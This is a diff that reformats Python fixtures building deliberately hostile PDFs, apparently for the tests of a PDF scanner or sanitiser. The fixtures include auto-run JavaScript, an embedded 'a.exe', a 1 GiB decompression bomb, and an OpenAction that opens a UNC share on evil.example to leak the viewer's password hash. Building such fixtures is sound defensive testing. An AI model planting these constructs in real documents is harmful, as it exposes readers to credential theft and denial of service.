@@ -49,7 +49,10 @@ def pdf(change=None, pages: int = 1) -> bytes:
 
 def pdf_with_script() -> bytes:
     def script(writer):
-        action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
+        action = {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.alert(1)"),
+        }
         writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))
 
     return pdf(script)
@@ -90,7 +93,9 @@ def pdf_with_orphan_script() -> bytes:
     """A script no page leads to, which some viewers find all the same."""
     return pdf(
         lambda writer: writer._add_object(
-            DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")})
+            DictionaryObject(
+                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
+            )
         )
     )
 
@@ -147,8 +152,13 @@ def pdf_with_file_note() -> bytes:
         stream.set_data(b"MZ-program")
         stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
         inside = DictionaryObject({NameObject("/F"): writer._add_object(stream)})
-        spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): create_string_object("a.exe"),
-                                 NameObject("/EF"): inside})  # fmt: skip
+        spec = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Filespec"),
+                NameObject("/F"): create_string_object("a.exe"),
+                NameObject("/EF"): inside,
+            }
+        )
         note(writer, {NameObject("/Subtype"): NameObject("/FileAttachment"), NameObject("/FS"): spec})
 
     return pdf(clip)
@@ -172,16 +182,24 @@ def pdf_going_to_a_share() -> bytes:
     """Opens a document on a stranger's share, which tells it who looks, with a hash of the password."""
 
     def share(writer):
-        there = {NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): create_string_object("\\\\evil.example\\share\\a.pdf")}
+        there = {
+            NameObject("/S"): NameObject("/GoToR"),
+            NameObject("/F"): create_string_object("\\\\evil.example\\share\\a.pdf"),
+        }
         writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(there))
-        writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): DictionaryObject(there)})
+        writer._root_object[NameObject("/AA")] = DictionaryObject(
+            {NameObject("/WC"): DictionaryObject(there)}
+        )
 
     return pdf(share)
 
 
 def pdf_with_link() -> bytes:
     def link(writer):
-        there = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): create_string_object("https://evil.example")}
+        there = {
+            NameObject("/S"): NameObject("/URI"),
+            NameObject("/URI"): create_string_object("https://evil.example"),
+        }
         note(writer, {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject(there)})
 
     return pdf(link)
@@ -207,7 +225,9 @@ def pdf_bomb_in_two_codings(size: int = 1 << 30) -> bytes:
 
     def bomb(writer):
         stream = DecodedStreamObject()
-        stream[NameObject("/Filter")] = ArrayObject([NameObject("/ASCIIHexDecode"), NameObject("/FlateDecode")])
+        stream[NameObject("/Filter")] = ArrayObject(
+            [NameObject("/ASCIIHexDecode"), NameObject("/FlateDecode")]
+        )
         stream._data = packed
         writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
 
@@ -240,11 +260,17 @@ def pdf_with_filled_field() -> bytes:
         look.set_data(b"0 g 0 0 80 40 re f")
         look[NameObject("/Type")], look[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
         look[NameObject("/BBox")] = ArrayObject([NumberObject(n) for n in (0, 0, 160, 40)])
-        named = {NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): create_string_object("name"),
-                 NameObject("/V"): create_string_object("Anna"), NameObject("/F"): NumberObject(4),
-                 NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(look)})}  # fmt: skip
+        named = {
+            NameObject("/FT"): NameObject("/Tx"),
+            NameObject("/T"): create_string_object("name"),
+            NameObject("/V"): create_string_object("Anna"),
+            NameObject("/F"): NumberObject(4),
+            NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(look)}),
+        }
         note(writer, {NameObject("/Subtype"): NameObject("/Widget")} | named)
-        fields = ArrayObject([writer.pages[0]["/Annots"][0].indirect_reference or writer.pages[0]["/Annots"].raw_get(0)])
+        fields = ArrayObject(
+            [writer.pages[0]["/Annots"][0].indirect_reference or writer.pages[0]["/Annots"].raw_get(0)]
+        )
         writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})
 
     return pdf(field)
